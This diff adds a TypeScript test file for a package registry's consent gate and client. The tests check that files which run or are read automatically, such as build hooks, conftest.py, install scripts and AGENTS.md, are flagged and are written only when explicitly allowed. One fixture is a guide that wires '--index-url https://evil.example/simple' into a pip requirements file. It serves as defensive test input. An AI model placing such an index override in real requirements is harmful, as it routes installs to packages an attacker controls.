@@ -1,0 +1,266 @@
+/** The real gate and the real client, with samples of what a program runs or reads by itself. */
+import { existsSync } from 'node:fs';
+import { join } from 'node:path';
+import { beforeEach, describe, expect, it } from 'vitest';
+import { apply, plan } from '../../client/library.ts';
+import { GitFixture, build } from '../generate/git-fixture.ts';
+import { Session } from '../client/mcp-session.ts';
+import {
+  bringUpToDate,
+  makeProject,
+  readProject,
+  serveRegistry,
+  stackyard,
+} from '../client/registry-fixture.ts';
+import { GateFixture, codes } from '../publish/gate-fixture.ts';
+import { NAMED_FILES, ORDINARY_FILES } from './named-files.ts';
+
+/** One of each class below `src/mod`, and what merged and installed without a question before. */
+const SAMPLE = [
+  'binding.gyp',
+  'npm-shrinkwrap.json',
+  'docker-compose.override.yml',
+  'pnpm-workspace.yaml',
+  'uv.toml',
+  'netlify.toml',
+  '.cirrus.yml',
+  'crush.json',
+  '.zed/settings.json',
+  'requirements/prod.txt',
+  'src/mod/pylintrc',
+  'src/mod/jest.config.cjs',
+  'src/mod/vite.config.mts',
+  'src/mod/conftest.py',
+  'src/mod/package.json',
+  'src/mod/tsconfig.json',
+  'src/mod/x.pth',
+  'src/mod/Makefile',
+  'src/mod/install.sh',
+  'src/mod/x.node',
+  'src/mod/model.pkl',
+  'src/mod/.x.ts',
+  'src/mod/AGENTS.md',
+  'server.js',
+];
+const NAMED = NAMED_FILES.filter(({ path }) => SAMPLE.includes(path));
+const TEXTS = Object.fromEntries(SAMPLE.map((path) => [path, '\n']));
+/** Without the files of the fixture, which are at the root. */
+const FILES = { files: ['**', '!LICENSE', '!README.md', '!src/index.ts'] };
+
+const GUIDE = `# Steps
+
+1. **List**: add to your requirements.
+
+   \`\`\`text wire lines deps/prod.txt
+   --index-url https://evil.example/simple
+   \`\`\`
+`;
+
+describe('the gate', () => {
+  it('leaves each of the sample to an admin, and names it with what it can do', async () => {
+    const fixture = new GateFixture();
+    const verdict = await fixture.propose(build('alice/web-forms', '1.1.0', FILES, TEXTS));
+    expect(verdict.reasons.filter(({ level }) => level === 'refuse')).toEqual([]);
+    expect(verdict.verdict).toBe('review');
+    const consent = verdict.reasons.filter(({ code }) => code === 'gate-consent');
+    expect(NAMED).toHaveLength(SAMPLE.length);
+    for (const { path, class: name } of NAMED) {
+      const own = consent.filter(({ message }) => message.includes(`("${name}"): `));
+      expect([path, own.length]).toEqual([path, 1]);
+      expect(own[0]?.message.split(/: |, |\. /)).toContain(path);
+    }
+  });
+
+  it('merges source files without a reason', async () => {
+    const files = Object.fromEntries(
+      ORDINARY_FILES.filter((path) => /\.(?:ts|css|sql|json|svg)$/.test(path)).map((path) => [
+        path,
+        path.endsWith('.json') ? '{}\n' : '\n',
+      ]),
+    );
+    const verdict = await new GateFixture().propose(
+      build('alice/web-forms', '1.1.0', FILES, files),
+    );
+    expect(codes(verdict)).toEqual([]);
+    expect(verdict.verdict).toBe('merge');
+  });
+
+  it('has one reason for a changed file, and none for the same one again', async () => {
+    const fixture = new GateFixture();
+    const first = await fixture.propose(build('alice/web-forms', '1.1.0', FILES, TEXTS));
+    fixture.land(first);
+    const same = await fixture.propose(build('alice/web-forms', '1.2.0', FILES, TEXTS));
+    expect(codes(same)).not.toContain('gate-consent');
+    const changed = { ...TEXTS, 'src/mod/conftest.py': 'import os\n' };
+    const other = await fixture.propose(build('alice/web-forms', '1.2.0', FILES, changed));
+    const [reason, ...more] = other.reasons.filter(({ code }) => code === 'gate-consent');
+    expect([reason?.message, more]).toEqual([expect.stringContaining('conftest.py'), []]);
+  });
+
+  it('leaves wired options of pip to an admin, and refuses them in a manifest', async () => {
+    const options = { base: 'src/x', files: ['src/**'] };
+    const propose = async (guide: string): Promise<string[]> => {
+      const files = { 'INTEGRATION.md': guide };
+      return codes(
+        await new GateFixture().propose(build('alice/web-forms', '1.1.0', options, files)),
+      );
+    };
+    expect(await propose(GUIDE)).toEqual(['gate-consent']);
+    expect(await propose(GUIDE.replace('deps/prod.txt', 'requirements/prod.txt'))).toContain(
+      'wiring-target',
+    );
+  });
+});
+
+describe('the client', () => {
+  let git: GitFixture;
+  let index: string;
+  let url: string;
+  let project: string;
+
+  beforeEach(async () => {
+    git = new GitFixture();
+    git.commit(build('a/evil', '1.0.0', FILES, TEXTS));
+    git.commit(build('a/plain', '1.0.0', { base: 'src/plain', files: ['src/**'] }));
+    git.commit(
+      build(
+        'a/wired',
+        '1.0.0',
+        { base: 'src/wired', files: ['src/**'] },
+        { 'INTEGRATION.md': GUIDE },
+      ),
+    );
+    git.commit(build('a/flat', '1.0.0', { base: 'lib', files: ['*.js'] }, { 'server.js': '\n' }));
+    ({ url, index } = await serveRegistry(git));
+    project = makeProject();
+  });
+
+  async function run(...args: string[]): Promise<{ status: number | null; error: any; data: any }> {
+    const place = ['-C', project, '--no-input', '--json'];
+    const from = args[0] === 'add' ? ['--registry', url, '--no-install'] : [];
+    const { status, stdout } = await stackyard([...args, ...from, ...place]);
+    const { error, data } = JSON.parse(stdout) as { error: unknown; data: unknown };
+    return { status, error, data };
+  }
+
+  it('add writes nothing of the sample without the option that the hint has', async () => {
+    const before = readProject(project);
+    const refused = await run('add', 'a/evil');
+    expect([refused.error.code, refused.status]).toEqual(['ERR_CONSENT', 6]);
+    for (const path of SAMPLE) expect(refused.error.message).toContain(path);
+    expect(readProject(project)).toEqual(before);
+    const [, classes = ''] = /--allow (\S+)$/.exec(refused.error.hint) ?? [];
+    expect(classes.split(',')).toEqual([...new Set(NAMED.map((one) => one.class))].sort());
+    expect((await run('add', 'a/evil', '--yes')).status).toBe(6);
+    expect((await run('add', 'a/evil', '--allow', classes)).status).toBe(0);
+    for (const path of SAMPLE) expect(existsSync(join(project, path))).toBe(true);
+  });
+
+  it('a dry run lists each with what it can do, and needs no option', async () => {
+    const { status, data } = await run('add', 'a/evil', '--dry-run');
+    expect(status).toBe(0);
+    const { consent } = data.plan as { consent: { path: string; class: string; does: string }[] };
+    expect(consent.map(({ path }) => path).sort()).toEqual([...SAMPLE].sort());
+    expect(consent).toEqual(
+      consent.map((one) => ({
+        build: 'a/evil',
+        path: one.path,
+        class: NAMED.find(({ path }) => path === one.path)?.class,
+        does: one.does,
+        given: false,
+      })),
+    );
+    expect(consent.every(({ does }) => does.length > 20)).toBe(true);
+    expect(Object.keys(readProject(project))).toEqual(['package.json']);
+  });
+
+  it('takes paths, and asks for the others', async () => {
+    const some = ['--allow', SAMPLE.slice(1).join(',')];
+    const refused = await run('add', 'a/evil', ...some);
+    expect(refused.error.message.split('\n').slice(1)).toHaveLength(2);
+    expect(refused.error.message).toContain('packages: binding.gyp');
+    expect((await run('add', 'a/evil', ...some, '--allow', './binding.gyp')).status).toBe(0);
+  });
+
+  it('a module of source files needs nothing, until --to puts it where programs look', async () => {
+    expect((await run('add', 'a/flat', '--to', '.')).error.message).toContain('root: server.js');
+    expect((await run('add', 'a/flat', '--to', '.vscode')).error.hint).toContain('--allow editor');
+    expect((await run('add', 'a/flat')).status).toBe(0);
+    const moved = await run('update', 'a/flat', '--to', 'api', '--no-install');
+    expect([moved.status, moved.error.hint]).toEqual([6, expect.stringContaining('startup')]);
+  });
+
+  it('an update asks for files that it adds or changes, and not for those that stay', async () => {
+    await run('add', 'a/evil', 'a/plain', '--allow', 'all');
+    const changed = Object.fromEntries(SAMPLE.map((path) => [path, '# changed\n']));
+    git.commit(build('a/evil', '1.1.0', FILES, changed));
+    await bringUpToDate(git, index);
+    const asked = await run('update', '--no-install');
+    expect([asked.status, asked.error.code]).toEqual([6, 'ERR_CONSENT']);
+    expect((await run('update', '--no-install', '--allow', 'all')).status).toBe(0);
+    const files = { 'src/conftest.py': 'import os\n' };
+    git.commit(build('a/plain', '1.1.0', { base: 'src/plain', files: ['src/**'] }, files));
+    await bringUpToDate(git, index);
+    const refused = await run('update', '--no-install');
+    expect([refused.status, refused.error.message]).toEqual([
+      6,
+      expect.stringContaining('startup: src/plain/src/conftest.py'),
+    ]);
+    expect((await run('update', '--no-install', '--allow', 'startup')).status).toBe(0);
+  });
+
+  it('install asks again for what it restores: a lock is untrusted', async () => {
+    await run('add', 'a/evil', '--allow', 'all');
+    const { url: clone } = { url };
+    const other = makeProject({
+      'package.json': '{}\n',
+      'stackyard.lock.json': readProject(project)['stackyard.lock.json']!,
+    });
+    project = other;
+    const refused = await run('install', '--no-install', '--registry', clone);
+    expect([refused.status, refused.error.code]).toEqual([6, 'ERR_CONSENT']);
+    expect(existsSync(join(other, 'binding.gyp'))).toBe(false);
+    const allowed = await run('install', '--no-install', '--registry', clone, '--allow', 'all');
+    expect(allowed.status).toBe(0);
+    expect(existsSync(join(other, 'binding.gyp'))).toBe(true);
+  });
+
+  it('wire asks for lines that are options of pip', async () => {
+    const refused = await run('add', 'a/wired', '--wire');
+    expect([refused.status, refused.error.message]).toEqual([
+      6,
+      expect.stringContaining('packages: deps/prod.txt'),
+    ]);
+    expect((await run('add', 'a/wired')).status).toBe(0);
+    const again = await run('add', '--wire', 'a/wired');
+    expect([again.status, again.error.hint]).toEqual([6, expect.stringContaining('packages')]);
+    expect(existsSync(join(project, 'deps/prod.txt'))).toBe(false);
+    expect((await run('add', '--wire', 'a/wired', '--allow', 'deps/prod.txt')).status).toBe(0);
+    expect(readProject(project)['deps/prod.txt']).toContain('--index-url');
+  });
+
+  it('mcp lists it in the plan, and refuses a plan without "allow"', async () => {
+    const session = await Session.open(project, url);
+    const values = { builds: ['a/evil'] };
+    const planned = await session.call('plan', { action: 'add', ...values });
+    const { plan_hash, plan: made } = planned.data as { plan_hash: string; plan: { consent: [] } };
+    expect(made.consent).toHaveLength(SAMPLE.length);
+    const refused = await session.call('apply', { plan_hash });
+    expect(refused.error).toMatchObject({ code: 'ERR_CONSENT' });
+    const other = await session.call('apply', { allow: ['all'], plan_hash });
+    expect(other.error).toMatchObject({ code: 'ERR_USAGE' });
+    const allowed = { ...values, allow: ['all'] };
+    const again = await session.call('plan', { action: 'add', ...allowed });
+    const done = await session.call('apply', { plan_hash: again.data!['plan_hash'] });
+    expect(done).toMatchObject({ ok: true });
+  });
+
+  it('the library refuses to apply what is not allowed', async () => {
+    const prepared = await plan(project, ['a/evil'], { registry: url });
+    expect(prepared.plan.consent).toHaveLength(SAMPLE.length);
+    await expect(apply(prepared)).rejects.toMatchObject({ code: 'ERR_CONSENT' });
+    expect(Object.keys(readProject(project))).toEqual(['package.json']);
+    await apply(await plan(project, ['a/evil'], { registry: url, allow: ['all'] }));
+    expect(existsSync(join(project, 'binding.gyp'))).toBe(true);
+  });
+});
